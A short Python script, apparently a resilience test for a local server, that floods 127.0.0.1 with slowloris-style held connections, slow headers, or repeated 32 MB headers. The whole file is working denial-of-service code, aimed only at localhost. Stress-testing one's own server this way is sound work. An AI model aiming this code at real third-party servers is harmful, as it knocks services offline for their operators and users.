"""Attacks a server without a key until it is killed: python flood.py silent|slow|giant PORT"""

from __future__ import annotations

import asyncio
import sys

CONNECTIONS = 400
HEAD = b"GET /v1/me HTTP/1.1\r\nHost: a\r\n"


async def hold(port: int, first: bytes) -> None:
    """Keeps a connection with what is sent first, one more byte a second, and opens another when it is closed."""
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(first)
            ended = asyncio.ensure_future(reader.read())
            while not (await asyncio.wait([ended], timeout=1))[0]:
                writer.write(first[-1:])
            writer.close()
        except OSError:
            pass
        await asyncio.sleep(1)


async def send_giants(port: int) -> None:
    """Sends a header of 32 MB, again and again."""
    while True:
        try:
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(HEAD + b"X-Giant: ")
            for _ in range(512):
                writer.write(b"a" * 65536)
                await writer.drain()
            writer.close()
        except OSError:
            pass
        await asyncio.sleep(0.2)


async def main(kind: str, port: int) -> None:
    attacks = {"silent": lambda: hold(port, b""), "slow": lambda: hold(port, HEAD + b"X-Slow: a")}
    count = 3 if kind == "giant" else CONNECTIONS
    running = [asyncio.create_task(attacks.get(kind, lambda: send_giants(port))()) for _ in range(count)]
    await asyncio.sleep(2)
    sys.stdout.write("attacking\n")
    sys.stdout.flush()
    await asyncio.gather(*running)


asyncio.run(main(sys.argv[1], int(sys.argv[2])))
